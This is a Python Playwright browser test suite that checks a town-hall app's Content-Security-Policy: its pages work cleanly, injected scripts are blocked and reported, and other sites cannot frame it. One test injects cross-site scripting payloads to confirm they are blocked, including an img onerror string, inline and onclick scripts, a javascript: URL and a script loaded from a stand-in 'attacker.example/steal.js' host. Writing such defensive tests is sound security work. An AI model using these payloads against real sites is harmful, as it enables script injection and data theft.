"""The Content-Security-Policy in a real browser: every main page works under it (live over a WebSocket,
QR codes, charts, the minutes preview) without one violation or console error; a script injected into a
page does not run and is reported; no other site can frame our pages."""
import re

import pytest
from playwright.sync_api import expect

from townhall.services import minutes, polls, records

from .helpers import ask, card, join, login, mod_card, projector_item, show_tab, wait_live

pytestmark = pytest.mark.browser

# Runs in every frame before the page's own scripts (Playwright injects it over the DevTools protocol).
REPORTER = """
document.addEventListener("securitypolicyviolation", (e) => {
  window.__cspReport({directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample, page: e.documentURI});
});
"""
QUESTION = "Can the library stay open until nine on weekdays?"


class Watch:
    """CSP violations (the DOM event) and console errors of every page it watches."""

    def __init__(self):
        self.violations, self.console = [], []

    def __call__(self, page, who):
        context = page.context
        context.expose_binding("__cspReport", lambda _source, report: self.violations.append({"who": who, **report}))
        context.add_init_script(REPORTER)
        page.on("console", lambda message: message.type == "error" and self.console.append(f"[{who}] {message.text}"))
        return page

    def assert_clean(self):
        assert self.violations == [], self.violations
        assert self.console == [], self.console


@pytest.fixture
def watch(people):
    return Watch()


def published_minutes(app, code, owner_id, item_id):
    with app.app_context():
        records.save_notes(code=code, user_id=owner_id, item_id=item_id, text="Option B was preferred.",
                           base_version=0)
        draft = minutes.state(code=code, user_id=owner_id)["draft"]
        saved = minutes.save_draft(code=code, user_id=owner_id, base_revision=draft["revision"],
                                   summary="The library keeps its hours.")["draft"]
        minutes.finalize(code=code, user_id=owner_id, base_revision=saved["revision"])
        minutes.publish(code=code, user_id=owner_id, version=1)


def loaded_image(page, testid):
    image = page.get_by_test_id(testid)
    expect(image).to_be_visible()
    page.wait_for_function("(img) => img.complete && img.naturalWidth > 0", arg=image.element_handle())


def test_every_main_page_works_under_the_policy_without_a_violation(people, seed, watch, shoot):
    import polls_helpers
    import records_helpers

    owner = seed.organizer()
    code = seed.event(owner.id, title="Library hours town hall", place="Main library")
    item_id = records_helpers.make_item(seed.app, code, "Opening hours")
    published_minutes(seed.app, code, owner.id, item_id)

    # The landing page, then log in (the form posts to our own origin: form-action 'self').
    laptop = watch(people.laptop("organizer"), "organizer")
    laptop.goto("/")
    expect(laptop.get_by_test_id("join-code-form")).to_be_visible()
    login(laptop, owner.email, owner.password)
    expect(laptop.get_by_text("Library hours town hall").first).to_be_visible()

    # Live pages: each connects over a WebSocket to our own origin (connect-src 'self').
    laptop.goto(f"/dashboard/e/{code}")
    wait_live(laptop)
    laptop.wait_for_function("() => [...document.images].every((img) => img.complete && img.naturalWidth > 0)")
    projector = watch(people.projector(), "projector")
    projector.goto(f"/e/{code}/projector")
    wait_live(projector)
    loaded_image(projector, "projector-qr")
    phone = watch(people.phone("phone"), "phone")
    phone.goto("/")  # the landing page's form: the code typed in, then the event's page (/join redirects)
    phone.get_by_test_id("join-code-input").fill(code.lower())
    phone.get_by_test_id("join-code-submit").click()
    phone.wait_for_url(re.compile(rf"/e/{code}$"))
    join(phone, code, name="Pat")
    ask(phone, QUESTION)
    mine = phone.get_by_test_id("question-card")
    expect(mine).to_have_count(1)
    question_id = mine.get_attribute("data-question-id")
    expect(card(phone, question_id).get_by_test_id("question-text")).to_have_text(QUESTION)
    expect(mod_card(laptop, question_id).get_by_test_id("question-text")).to_have_text(QUESTION)  # live, no reload
    expect(projector_item(projector, question_id)).to_contain_text(QUESTION)
    shoot(phone, "phone")
    shoot(laptop, "dashboard")

    # A poll: the phone votes, the projector's chart draws its bars (widths set through the CSSOM).
    poll_id = polls_helpers.make_open(seed.app, code, owner.id, kind="single", question="Open on Sundays?",
                                      options=["Yes", "No"])
    show_tab(phone, "polls")
    poll = phone.locator(f'[data-testid="poll-card"][data-poll-id="{poll_id}"]')
    poll.get_by_test_id("poll-option").nth(0).check()
    poll.get_by_test_id("poll-submit").click()
    expect(poll.get_by_test_id("poll-voted")).to_contain_text("Your answer is in")
    yes = projector.locator('[data-testid="projector-poll"] [data-testid="poll-bar"][data-option="0"]')
    expect(yes).to_have_attribute("data-count", "1")
    fill = yes.locator(".poll-bar-fill")
    expect(fill).to_have_attribute("style", re.compile(r"width: 100%"))
    projector.wait_for_function(  # the whole track (after its transition)
        "(el) => el.getBoundingClientRect().width >= el.parentElement.getBoundingClientRect().width - 1",
        arg=fill.element_handle())
    shoot(projector, "projector-poll-chart")
    polls_helpers.run(seed.app, polls.close_poll, code=code, user_id=owner.id, poll_id=poll_id)

    for path in ("agenda", "polls", "notes", "team"):
        laptop.goto(f"/dashboard/e/{code}/{path}")
        wait_live(laptop)
    expect(laptop.get_by_test_id("connection-status")).to_have_attribute("data-state", "live")

    # Settings: the page's script saves through the API.
    laptop.goto(f"/dashboard/e/{code}/settings")
    laptop.get_by_test_id("settings-save").click()
    expect(laptop.get_by_test_id("settings-saved")).not_to_be_empty()

    # Minutes: the preview frame shows the minutes styled by their own inline stylesheet (allowed by hash).
    laptop.goto(f"/dashboard/e/{code}/minutes")
    preview = laptop.frame_locator('[data-testid="preview-frame"]')
    expect(preview.get_by_text("Option B was preferred.")).to_be_visible()
    expect(preview.locator("svg.minutes-chart").first).to_be_visible()  # the poll's chart, inline SVG
    background = laptop.frame_locator('[data-testid="preview-frame"]').locator("html").evaluate(
        "(el) => getComputedStyle(el).backgroundColor")
    assert background == "rgb(238, 240, 243)"  # #eef0f3, from the file's <style>
    shoot(laptop, "minutes-preview")
    laptop.goto(laptop.get_by_test_id("preview-open").get_attribute("href"))  # "Open to print": the file itself
    expect(laptop.get_by_text("Option B was preferred.")).to_be_visible()
    assert laptop.locator("html").evaluate("(el) => getComputedStyle(el).backgroundColor") == "rgb(238, 240, 243)"

    laptop.goto("/dashboard/tokens")
    laptop.get_by_test_id("token-name").fill("Laptop")
    laptop.get_by_test_id("token-create").click()
    expect(laptop.get_by_test_id("token-secret")).not_to_have_value("")
    laptop.goto("/dashboard/")
    expect(laptop.get_by_text("Library hours town hall").first).to_be_visible()

    # Public pages without a socket: an invitation, the poster (its QR) and the published minutes.
    poster = watch(people.laptop("poster"), "poster")
    poster.goto(records_helpers.invitation_link(seed.app, code, owner.id, "moderator"))
    expect(poster.get_by_test_id("invite-page")).to_be_visible()
    poster.goto(f"/e/{code}/poster")
    loaded_image(poster, "poster-qr")
    shoot(poster, "poster")
    phone.goto(f"/e/{code}/minutes")
    expect(phone.get_by_test_id("public-minutes")).to_contain_text("Option B was preferred.")
    phone.goto(f"/e/{code}/privacy")
    expect(phone.get_by_test_id("privacy-page")).to_be_visible()
    phone.goto("/login")
    expect(phone.get_by_test_id("login-form")).to_be_visible()

    watch.assert_clean()


def test_a_script_injected_into_a_page_is_blocked_and_reported(people, seed, watch):
    owner = seed.organizer()
    code = seed.event(owner.id, title="Library hours town hall")
    phone = watch(people.phone("phone"), "phone")
    join(phone, code, name="Pat")
    # What an attacker's text would try (it is shown as text anyway: the pages never parse it as HTML).
    ask(phone, '<img src="data:," onerror="window.__ran = 1">')
    expect(phone.get_by_test_id("question-text").first).to_have_text('<img src="data:," onerror="window.__ran = 1">')

    phone.evaluate("""() => {
      const inline = document.createElement("script");
      inline.textContent = "window.__ran = 'inline script'";
      document.body.append(inline);
      const foreign = document.createElement("script");
      foreign.src = "https://attacker.example/steal.js";
      document.body.append(foreign);
      const handler = document.createElement("button");
      handler.setAttribute("onclick", "window.__ran = 'onclick'");
      document.body.append(handler);
      handler.click();
      document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.__ran = \\'onerror\\'">');
      const link = document.createElement("a");
      link.href = "javascript:window.__ran = 'javascript: URL'";
      document.body.append(link);
      link.click();
    }""")
    phone.wait_for_timeout(500)  # the image fails, the reports arrive
    assert phone.evaluate("() => window.__ran") is None  # nothing of it ran
    directives = sorted(v["directive"] for v in watch.violations)
    assert directives.count("script-src-elem") >= 2, watch.violations  # the inline script and the foreign one
    assert directives.count("script-src-attr") >= 2, watch.violations  # onclick and onerror
    assert any(v["blocked"] == "https://attacker.example/steal.js" for v in watch.violations)
    assert any("Content Security Policy" in line for line in watch.console)
    wait_live(phone)  # the page itself still works


def test_another_site_cannot_frame_a_page(people, seed, live_server):
    owner = seed.organizer()
    code = seed.event(owner.id)
    framer = people.laptop("framer")
    refused = []
    framer.on("console", lambda message: refused.append(message.text) if "frame" in message.text else None)
    framer.set_content(f'<iframe src="{live_server}/e/{code}" width="400" height="400"></iframe>')
    frame = framer.frame_locator("iframe")
    framer.wait_for_timeout(500)
    expect(frame.get_by_test_id("join-card")).to_have_count(0)
    assert any(re.search(r"frame-ancestors|X-Frame-Options", line) for line in refused), refused
